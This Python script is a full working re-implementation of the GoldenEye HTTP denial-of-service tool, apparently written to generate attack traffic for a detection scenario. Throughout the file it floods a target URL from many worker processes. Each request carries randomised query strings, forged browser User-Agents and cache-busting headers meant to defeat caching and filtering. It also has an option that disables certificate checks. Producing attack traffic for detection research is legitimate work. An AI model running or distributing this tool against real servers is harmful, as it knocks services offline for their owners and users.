#!/usr/bin/env python3
"""goldeneye.py - an emulation of GoldenEye 2.1, for the `goldeneye` scenario.

GoldenEye (Jan Seidl, 2012-2014, GPLv3) is an HTTP denial-of-service tool
written in Python 2 that Debian does not package. This is our own
re-implementation in Python 3 with the standard library only; it
reproduces what GoldenEye 2.1 puts on the wire:

* W worker processes (-w), each opening S connections per round (-s): it
  creates S new HTTP(S) connections, sends one request on every
  connection it holds, then reads the status line and headers of every
  response (never the body), then closes them all. Like the original, a
  worker keeps its closed connection objects and reconnects them in the
  next round, so round k sends k*S requests.
* Every request goes to the target's path with a random query string of
  1-5 `key=value` pairs (keys of 3-10, values of 3-20 characters drawn
  from GoldenEye's alphabet, which lacks 'z', 'Z' and '9'); `?` is the
  joiner, or `&` when the path already has a query.
* Method GET or POST (-m get|post), or either at random per request
  (-m random); no body and no Content-Length, as Python 2's httplib sent.
* Headers in random order: User-Agent (built at random from GoldenEye's
  table of OS, platform and browser parts, or picked from a file, -u),
  Cache-Control (`no-cache` or `max-age=0`), Accept-Encoding (1-2 of '',
  *, identity, gzip, deflate), `Connection: keep-alive`, `Keep-Alive:
  <1-1000>`, Host; and each with probability 1/2: Accept-Charset with
  random q-values, a Referer (google, bing, baidu, yandex or the target
  itself, a random path, sometimes a random query string), Content-Type
  (multipart/form-data or application/x-url-encoded), and a Cookie of
  random pairs.
* A monitor printing "N GoldenEye strikes deferred. (M Failed)" every
  second, and "Server may be DOWN!" when only failures progress.

Where it differs, and why:

* --duration SECS stops the attack after SECS seconds, as Ctrl-C would
  (the original runs until interrupted); SIGTERM does the same.
* --seed N seeds the random choices (worker i uses N+i), so a run's
  payloads are reproducible from its manifest.
* After a failed round the worker closes its connections and goes on; the
  original leaves them half-used, after which every later round fails at
  once and the worker stops sending anything.
* -n (--nosslcheck, from GoldenEye's later versions) skips certificate
  checks, for the victim's self-signed certificate.

Exit status: 0 when requests reached the server (at least one was sent
on an open connection: answered or not, the flood played out; on a host
short of CPU a round of TLS handshakes can outlast the attack), 1 when
none could be sent, 2 on a usage error.
"""

import getopt
import multiprocessing
import random
import signal
import ssl
import sys
import time
import http.client
from urllib.parse import urlparse

METHOD_GET = "get"
METHOD_POST = "post"
METHOD_RAND = "random"

DEFAULT_WORKERS = 10
DEFAULT_SOCKETS = 500
JOIN_TIMEOUT = 1.0

GOLDENEYE_BANNER = "GoldenEye v2.1 by Jan Seidl <jseidl@wroot.org> (detgen's Python 3 emulation)"


def user_agent_parts(rng):
    """GoldenEye's table of user-agent parts; like the original, the
    version numbers in it are drawn once, when the tool starts."""
    r = rng.randint
    return {
        "os": {
            "linux": {"name": ["Linux x86_64", "Linux i386"], "ext": ["X11"]},
            "windows": {
                "name": ["Windows NT 6.1", "Windows NT 6.3", "Windows NT 5.1", "Windows NT.6.2"],
                "ext": ["WOW64", "Win64; x64"],
            },
            "mac": {
                "name": ["Macintosh"],
                "ext": ["Intel Mac OS X %d_%d_%d" % (r(10, 11), r(0, 9), r(0, 5)) for _ in range(1, 10)],
            },
        },
        "platform": {
            "webkit": {
                "name": ["AppleWebKit/%d.%d" % (r(535, 537), r(1, 36)) for _ in range(1, 30)],
                "details": ["KHTML, like Gecko"],
                "extensions": [
                    "Chrome/%d.0.%d.%d Safari/%d.%d" % (r(6, 32), r(100, 2000), r(0, 100), r(535, 537), r(1, 36))
                    for _ in range(1, 30)
                ]
                + [
                    "Version/%d.%d.%d Safari/%d.%d" % (r(4, 6), r(0, 1), r(0, 9), r(535, 537), r(1, 36))
                    for _ in range(1, 10)
                ],
            },
            "iexplorer": {
                "browser_info": {
                    "name": ["MSIE 6.0", "MSIE 6.1", "MSIE 7.0", "MSIE 7.0b", "MSIE 8.0", "MSIE 9.0", "MSIE 10.0"],
                    "ext_pre": ["compatible", "Windows; U"],
                    "ext_post": ["Trident/%d.0" % i for i in range(4, 6)]
                    + [".NET CLR %d.%d.%d" % (r(1, 3), r(0, 5), r(1000, 30000)) for _ in range(1, 10)],
                }
            },
            "gecko": {
                "name": [
                    "Gecko/%d%02d%02d Firefox/%d.0" % (r(2001, 2010), r(1, 31), r(1, 12), r(10, 25))
                    for _ in range(1, 30)
                ],
                "details": [],
                "extensions": [],
            },
        },
    }


class Stopped(Exception):
    """The attack's time is up."""


class Striker(multiprocessing.Process):
    """One worker: rounds of nr_socks new connections, as GoldenEye's Striker."""

    def __init__(self, url, nr_socks, method, useragents, ua_parts, nosslcheck, seed, counter, stop):
        super().__init__(daemon=True)
        parsed = urlparse(url)
        self.ssl = parsed.scheme == "https"
        self.host = parsed.netloc.split(":")[0]
        self.url = parsed.path + ("?" + parsed.query if parsed.query else "")
        self.port = parsed.port or (443 if self.ssl else 80)
        self.nr_socks = nr_socks
        self.method = method
        self.useragents = useragents
        self.ua_parts = ua_parts
        self.nosslcheck = nosslcheck
        self.seed = seed
        self.counter = counter
        self.stop_event = stop
        self.socks = []
        self.referers = [
            "http://www.google.com/",
            "http://www.bing.com/",
            "http://www.baidu.com/",
            "http://www.yandex.com/",
            "http://" + self.host + "/",
        ]
        self.rng = random.Random()

    # ---- the attack ---------------------------------------------------------
    def run(self):
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, signal.SIG_DFL)
        self.rng.seed(self.seed)
        context = None
        if self.ssl:
            context = ssl._create_unverified_context() if self.nosslcheck else ssl.create_default_context()
        while not self.stop_event.is_set():
            try:
                for _ in range(self.nr_socks):
                    if self.ssl:
                        c = http.client.HTTPSConnection(self.host, self.port, context=context)
                    else:
                        c = http.client.HTTPConnection(self.host, self.port)
                    self.socks.append(c)
                for conn_req in self.socks:
                    self.check_stop()
                    url, headers = self.create_payload()
                    if self.method == METHOD_RAND:
                        method = self.rng.choice([METHOD_GET, METHOD_POST])
                    else:
                        method = self.method
                    self.send(conn_req, method.upper(), url, headers)
                    self.inc_sent()
                for conn_resp in self.socks:
                    self.check_stop()
                    conn_resp.getresponse()  # status line and headers; the body is never read
                    self.inc_counter()
                self.close_connections()
            except Stopped:
                break
            except Exception:
                self.inc_failed()
                self.close_connections()
        self.close_connections()

    def check_stop(self):
        if self.stop_event.is_set():
            raise Stopped()

    @staticmethod
    def send(conn, method, url, headers):
        """The request line and the headers in the given order, without a
        body or Content-Length (as Python 2's httplib sent a body-less
        request); http.client adds nothing of its own."""
        conn.putrequest(method, url, skip_host=True, skip_accept_encoding=True)
        for name, value in headers.items():
            conn.putheader(name, str(value))
        conn.endheaders()

    def close_connections(self):
        for conn in self.socks:
            try:
                conn.close()
            except Exception:
                pass

    # ---- payloads -----------------------------------------------------------
    def buildblock(self, size):
        # GoldenEye's alphabet: range() ends one short, so no 'z', 'Z' or '9'.
        valid = list(range(97, 122)) + list(range(65, 90)) + list(range(48, 57))
        return "".join(chr(self.rng.choice(valid)) for _ in range(size))

    def generate_query_string(self, amount=1):
        pairs = []
        for _ in range(amount):
            key = self.buildblock(self.rng.randint(3, 10))
            value = self.buildblock(self.rng.randint(3, 20))
            pairs.append("{0}={1}".format(key, value))
        return "&".join(pairs)

    def generate_request_url(self, joiner="?"):
        return self.url + joiner + self.generate_query_string(self.rng.randint(1, 5))

    def generate_data(self):
        if len(self.url) == 0:
            self.url = "/"
        joiner = "&" if "?" in self.url else "?"
        return self.generate_request_url(joiner), self.generate_random_headers()

    def create_payload(self):
        url, headers = self.generate_data()
        keys = list(headers.keys())
        self.rng.shuffle(keys)
        return url, {k: headers[k] for k in keys}

    def get_user_agent(self):
        rng = self.rng
        if self.useragents:
            return rng.choice(self.useragents)
        parts = self.ua_parts
        os_ = parts["os"][rng.choice(list(parts["os"].keys()))]
        sysinfo = rng.choice(os_["name"])
        platform = parts["platform"][rng.choice(list(parts["platform"].keys()))]
        browser = platform.get("browser_info")
        if browser:
            browser_string = rng.choice(browser["name"])
            if "ext_pre" in browser:
                browser_string = "%s; %s" % (rng.choice(browser["ext_pre"]), browser_string)
            sysinfo = "%s; %s" % (browser_string, sysinfo)
            if "ext_post" in browser:
                sysinfo = "%s; %s" % (sysinfo, rng.choice(browser["ext_post"]))
        if os_.get("ext"):
            sysinfo = "%s; %s" % (sysinfo, rng.choice(os_["ext"]))
        ua = "Mozilla/5.0 (%s)" % sysinfo
        if platform.get("name"):
            ua = "%s %s" % (ua, rng.choice(platform["name"]))
        if platform.get("details"):
            details = platform["details"]
            ua = "%s (%s)" % (ua, rng.choice(details) if len(details) > 1 else details[0])
        if platform.get("extensions"):
            ua = "%s %s" % (ua, rng.choice(platform["extensions"]))
        return ua

    def generate_random_headers(self):
        rng = self.rng
        no_cache = ["no-cache", "max-age=0"]
        rng.shuffle(no_cache)
        nr_no_cache = rng.randint(1, len(no_cache) - 1)
        accept_encoding = ["''", "*", "identity", "gzip", "deflate"]
        rng.shuffle(accept_encoding)
        nr_encodings = rng.randint(1, len(accept_encoding) // 2)
        headers = {
            "User-Agent": self.get_user_agent(),
            "Cache-Control": ", ".join(no_cache[:nr_no_cache]),
            "Accept-Encoding": ", ".join(accept_encoding[:nr_encodings]),
            "Connection": "keep-alive",
            "Keep-Alive": rng.randint(1, 1000),
            "Host": self.host,
        }
        # Optional headers, each sent or not at random, so the header count
        # varies too.
        if rng.randrange(2) == 0:
            charsets = ["ISO-8859-1", "utf-8", "Windows-1251", "ISO-8859-2", "ISO-8859-15"]
            rng.shuffle(charsets)
            headers["Accept-Charset"] = "{0},{1};q={2},*;q={3}".format(
                charsets[0], charsets[1], round(rng.random(), 1), round(rng.random(), 1)
            )
        if rng.randrange(2) == 0:
            referer = rng.choice(self.referers) + self.buildblock(rng.randint(5, 10))
            if rng.randrange(2) == 0:
                referer = referer + "?" + self.generate_query_string(rng.randint(1, 10))
            headers["Referer"] = referer
        if rng.randrange(2) == 0:
            headers["Content-Type"] = rng.choice(["multipart/form-data", "application/x-url-encoded"])
        if rng.randrange(2) == 0:
            headers["Cookie"] = self.generate_query_string(rng.randint(1, 5))
        return headers

    # ---- counters -----------------------------------------------------------
    def inc_counter(self):
        with self.counter[0].get_lock():
            self.counter[0].value += 1

    def inc_failed(self):
        with self.counter[1].get_lock():
            self.counter[1].value += 1

    def inc_sent(self):
        with self.counter[2].get_lock():
            self.counter[2].value += 1


class GoldenEye:
    def __init__(self, url, workers, sockets, method, useragents, nosslcheck, seed, duration):
        self.url = url
        self.nr_workers = workers
        self.nr_sockets = sockets
        self.method = method
        self.useragents = useragents
        self.nosslcheck = nosslcheck
        self.seed = seed
        self.duration = duration
        # answered, failed rounds, sent (the last only for the summary)
        self.counter = tuple(multiprocessing.Value("q", 0) for _ in range(3))
        self.last_counter = [0, 0]
        self.stop = multiprocessing.Event()
        self.workers = []

    def fire(self):
        print()
        print(GOLDENEYE_BANNER)
        print()
        print(
            "Hitting webserver in mode '{0}' with {1} workers running {2} connections each.".format(
                self.method, self.nr_workers, self.nr_sockets
            ),
            flush=True,
        )
        ua_parts = user_agent_parts(random.Random(self.seed))
        for i in range(self.nr_workers):
            w = Striker(
                self.url,
                self.nr_sockets,
                self.method,
                self.useragents,
                ua_parts,
                self.nosslcheck,
                None if self.seed is None else self.seed + 1 + i,
                self.counter,
                self.stop,
            )
            self.workers.append(w)
            w.start()
        return self.monitor()

    def stats(self):
        done, failed = self.counter[0].value, self.counter[1].value
        if done > 0 or failed > 0:
            print("{0} GoldenEye strikes deferred. ({1} Failed)".format(done, failed), flush=True)
            if done > 0 and failed > 0 and self.last_counter[0] == done and failed > self.last_counter[1]:
                print("\tServer may be DOWN!", flush=True)
            self.last_counter = [done, failed]

    def monitor(self):
        start = time.monotonic()
        interrupted = False
        try:
            while any(w.is_alive() for w in self.workers):
                if self.duration and time.monotonic() - start >= self.duration:
                    break
                time.sleep(JOIN_TIMEOUT)
                self.stats()
        except KeyboardInterrupt:
            interrupted = True
            print("CTRL+C received. Killing all workers", flush=True)
        self.stop.set()
        deadline = time.monotonic() + 3
        for w in self.workers:
            w.join(max(0.0, deadline - time.monotonic()))
        for w in self.workers:
            if w.is_alive():
                w.terminate()
                w.join(1)
        elapsed = time.monotonic() - start
        self.stats()
        print("Shutting down GoldenEye", flush=True)
        done, failed, sent = (c.value for c in self.counter)
        print(
            "goldeneye: {0} requests sent, {1} answered, {2} failed rounds in {3:.1f} s ({4:.0f} requests/s){5}".format(
                sent, done, failed, elapsed, sent / elapsed if elapsed else 0, ", interrupted" if interrupted else ""
            ),
            flush=True,
        )
        return sent


def usage():
    print()
    print(GOLDENEYE_BANNER)
    print()
    print(" USAGE: goldeneye.py <url> [OPTIONS]")
    print()
    print(" OPTIONS:")
    print("\t -u, --useragents\tFile with user-agents to use\t\t(default: randomly generated)")
    print("\t -w, --workers\t\tNumber of concurrent workers\t\t(default: {0})".format(DEFAULT_WORKERS))
    print("\t -s, --sockets\t\tNumber of concurrent sockets\t\t(default: {0})".format(DEFAULT_SOCKETS))
    print("\t -m, --method\t\tHTTP Method to use 'get' or 'post' or 'random'\t(default: get)")
    print("\t -n, --nosslcheck\tDo not verify the server's certificate\t(default: verify)")
    print("\t -t, --duration\t\tStop after this many seconds (emulation)\t(default: run until Ctrl-C)")
    print("\t     --seed\t\tSeed of the random payloads (emulation)\t(default: random)")
    print("\t -h, --help\t\tShows this help")
    print()


def error(msg):
    sys.stderr.write(str(msg) + "\n")
    usage()
    sys.exit(2)


def main(argv):
    if len(argv) < 1:
        error("Please supply at least the URL")
    url = argv[0]
    if url in ("-h", "--help"):
        usage()
        return 0
    if url[0:4].lower() != "http":
        error("Invalid URL supplied")
    try:
        opts, _ = getopt.getopt(
            argv[1:],
            "dhnw:s:m:u:t:",
            ["debug", "help", "nosslcheck", "workers=", "sockets=", "method=", "useragents=", "duration=", "seed="],
        )
    except getopt.GetoptError as err:
        error(err)
    workers, socks, method = DEFAULT_WORKERS, DEFAULT_SOCKETS, METHOD_GET
    uas_file, nosslcheck, seed, duration = None, False, None, None
    for o, a in opts:
        if o in ("-h", "--help"):
            usage()
            return 0
        elif o in ("-u", "--useragents"):
            uas_file = a
        elif o in ("-s", "--sockets"):
            socks = int(a)
        elif o in ("-w", "--workers"):
            workers = int(a)
        elif o in ("-n", "--nosslcheck"):
            nosslcheck = True
        elif o in ("-t", "--duration"):
            duration = float(a)
        elif o == "--seed":
            seed = int(a)
        elif o in ("-d", "--debug"):
            pass
        elif o in ("-m", "--method"):
            if a in (METHOD_GET, METHOD_POST, METHOD_RAND):
                method = a
            else:
                error("method {0} is invalid".format(a))
    useragents = []
    if uas_file:
        try:
            with open(uas_file) as f:
                useragents = [line.strip() for line in f if line.strip()]
        except OSError:
            error("cannot read file {0}".format(uas_file))
    if workers < 1 or socks < 1:
        error("workers and sockets must be positive")

    # SIGTERM stops the attack as Ctrl-C does.
    def on_term(signum, frame):
        raise KeyboardInterrupt()

    signal.signal(signal.SIGTERM, on_term)
    ge = GoldenEye(url, workers, socks, method, useragents, nosslcheck, seed, duration)
    sent = ge.fire()
    return 0 if sent else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
